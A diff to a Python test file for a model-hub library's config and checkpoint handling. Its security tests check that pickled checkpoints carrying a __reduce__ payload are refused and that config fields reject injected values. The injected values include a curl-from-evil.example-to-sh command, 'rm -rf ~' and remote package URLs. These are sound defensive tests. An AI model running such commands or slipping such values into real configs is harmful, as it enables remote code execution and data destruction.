@@ -52,7 +52,7 @@ def test_save_pretrained_writes_timm_schema_and_requires(saved):
     cfg = json.loads((d / "config.json").read_text())
     assert cfg["architecture"] == "mz_test_vit"
     assert cfg["num_classes"] == 10 and cfg["num_features"] == model.num_features
-    assert cfg["model_args"]["num_classes"] == 10
+    assert "num_classes" not in cfg["model_args"]  # top-level only: transformers passes it itself
     assert cfg["pretrained_cfg"]["input_size"] == [3, 32, 32]
     assert cfg["requires"] == {"mixers": {"attention": "mixerzoo"}}
     sd = safetensors.torch.load_file(str(d / "model.safetensors"))
@@ -198,7 +198,7 @@ def test_model_args_validated_against_constructor(saved, tmp_path):
         _load(f"local-dir:{folder}")
     # the caller's own kwargs override stored ones and are left to the constructor
     arch, args = hub.check_config(_cfg(saved), overrides={"num_classes": 3})
-    assert arch == "mz_test_vit" and args["num_classes"] == 10
+    assert arch == "mz_test_vit" and "num_classes" not in args
 
 
 def test_hub_config_cannot_redirect_weights_to_pickles(saved):
@@ -324,3 +324,103 @@ def test_save_pretrained_unwraps_compiled_and_ema_models(tmp_path):
         keys = set(safetensors.torch.load_file(str(d / "model.safetensors")))
         assert keys == set(model.state_dict())
         assert (d / "README.md").read_text() == "# card\n"
+
+
+def test_folders_with_num_classes_in_model_args_still_load(saved, tmp_path):
+    # folders written before num_classes left model_args (it broke transformers' TimmWrapper) load as before
+    model, d = saved
+    folder = _copy_folder(d, tmp_path / "old")
+    cfg = _cfg(saved)
+    cfg["model_args"]["num_classes"] = 10
+    (folder / "config.json").write_text(json.dumps(cfg))
+    x = _x(model)
+    with torch.no_grad():
+        assert torch.equal(_load(f"local-dir:{folder}")(x), model(x))
+        assert torch.equal(timm.create_model(f"local-dir:{folder}", pretrained=True).eval()(x), model(x))
+
+
+def _timm_training_checkpoint(model, path: Path, **extra) -> Path:
+    """A checkpoint laid out like timm's train.py (CheckpointSaver._save) writes it."""
+    import argparse
+
+    opt = torch.optim.SGD(model.parameters(), lr=0.1, momentum=0.9)
+    model(torch.randn(2, *model.pretrained_cfg["input_size"])).sum().backward()
+    opt.step()
+    args = argparse.Namespace(model="mz_test_poolformer", lr=0.1, epochs=3, mean=(0.5, 0.5, 0.5), data_dir="/d")
+    torch.save(
+        {
+            "epoch": 2,
+            "arch": "mz_test_poolformer",
+            "optimizer": opt.state_dict(),
+            "version": 2,
+            "args": args,
+            "state_dict": model.state_dict(),
+            "state_dict_ema": model.state_dict(),
+            "metric": 12.5,
+            "saver": {"checkpoint_files": [("checkpoint-1.pth.tar", 10.0)], "best_epoch": 1, "pending": (2, 12.5)},
+            **extra,
+        },
+        path,
+    )
+    return path
+
+
+def test_convert_reads_timm_training_checkpoints_with_argparse_namespace(tmp_path, capsys):
+    model = _model("test_poolformer")
+    ckpt = _timm_training_checkpoint(model, tmp_path / "checkpoint-2.pth.tar")
+    out = tmp_path / "converted"
+    assert _cli.main(["convert", "test_poolformer", str(ckpt), str(out), "--num-classes", "10"]) == 0, capsys.readouterr()
+    x = _x(model)
+    with torch.no_grad():
+        assert torch.equal(_load(f"local-dir:{out}")(x), model.eval()(x))
+
+
+def test_convert_allow_list_does_not_let_other_globals_through(tmp_path, capsys):
+    import types
+
+    marker = tmp_path / "pwned"
+
+    class Evil:
+        def __reduce__(self):
+            return (open, (str(marker), "w"))
+
+    model = _model("test_poolformer")
+    ckpt = _timm_training_checkpoint(model, tmp_path / "evil.pth.tar", hook=Evil())
+    with pytest.raises(hub.ConvertError, match=r"weights_only=True.*open"):
+        hub.convert_checkpoint("test_poolformer", ckpt, tmp_path / "o", model_kwargs={"num_classes": 10})
+    # a plain-data class that is not on the allow-list is refused too
+    ckpt = _timm_training_checkpoint(model, tmp_path / "ns.pth.tar", extra=types.SimpleNamespace(a=1))
+    assert _cli.main(["convert", "test_poolformer", str(ckpt), str(tmp_path / "o2"), "--num-classes", "10"]) == 2
+    err = capsys.readouterr().err
+    assert err.count("\n") == 1 and "mixerzoo convert: error:" in err and "SimpleNamespace" in err
+    assert not marker.exists() and not (tmp_path / "o").exists()
+
+
+@pytest.mark.parametrize(
+    "dist",
+    [
+        "x' && curl https://evil.example/x | sh && echo '",
+        "x; rm -rf ~",
+        "acme @ https://evil.example/acme.whl",
+        "acme\n  - mixer 'fake' line",
+        "-e git+https://evil.example/r",
+        "",
+    ],
+)
+def test_requires_distribution_must_be_a_pep508_requirement(saved, dist):
+    cfg = _cfg(saved, requires={"mixers": {"acme.x": dist}})
+    with pytest.raises(hub.InvalidConfigError, match=r"requires\.mixers\['acme\.x'\]=.*PEP 508") as info:
+        hub.check_config(cfg)
+    assert "\n" not in str(info.value) and "pip install" not in str(info.value)
+
+
+def test_requires_hint_is_shell_quoted(saved):
+    cfg = _cfg(saved, requires={"mixers": {"acme.x": 'acme-mixers[cuda]>=0.3; os_name == "posix"'}})
+    with pytest.raises(hub.MissingMixerError) as info:
+        hub.check_config(cfg)
+    import shlex
+
+    cmd = str(info.value).rsplit("pip install ", 1)[1]
+    assert shlex.split(cmd) == ['acme-mixers[cuda]>=0.3; os_name == "posix"']  # one argument, nothing else
+    with pytest.raises(hub.InvalidConfigError, match="not a mixer name"):
+        hub.check_config(_cfg(saved, requires={"mixers": {"x'; sh": "acme"}}))
